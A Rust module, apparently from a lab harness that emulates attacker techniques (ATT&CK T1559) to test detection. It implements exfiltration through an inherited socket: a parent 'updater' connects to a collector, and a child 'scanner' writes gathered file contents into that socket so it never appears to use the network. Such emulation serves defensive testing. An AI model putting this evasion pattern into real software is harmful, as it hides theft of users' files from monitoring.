//! The scanner writes a document into a connection that its parent opened. ATT&CK T1559.
//!
//! The updater connects, then starts the scanner with the connection as standard input. The scanner
//! calls neither `socket` nor `connect`: who looks at those sees a process without a network. The
//! twin starts the scanner with nothing to inherit.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::os::fd::{AsFd as _, OwnedFd};
use std::path::Path;
use std::process::Stdio;

use rustix::net::{AddressFamily, sockopt};

use super::{Conduct, Loot, Trouble};
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Both halves: the updater connects, the scanner writes.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn scanner_input(&mut self) -> Result<Stdio, Trouble> {
        let connection = send::connect(&self.0.lab.collector()?)?;
        Ok(Stdio::from(OwnedFd::from(connection)))
    }

    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let Some(mut connection) = inherited()? else { return Ok(()) };
        connection.write_all(&self.0.document()?.content)?;
        Ok(send::finish(&connection)?)
    }
}

/// The connection, where standard input is one. A scanner that was started by hand has none.
fn inherited() -> io::Result<Option<TcpStream>> {
    let input = io::stdin();
    let is_connection = sockopt::socket_domain(input.as_fd()) == Ok(AddressFamily::INET);
    if !is_connection {
        return Ok(None);
    }
    Ok(Some(TcpStream::from(input.as_fd().try_clone_to_owned()?)))
}
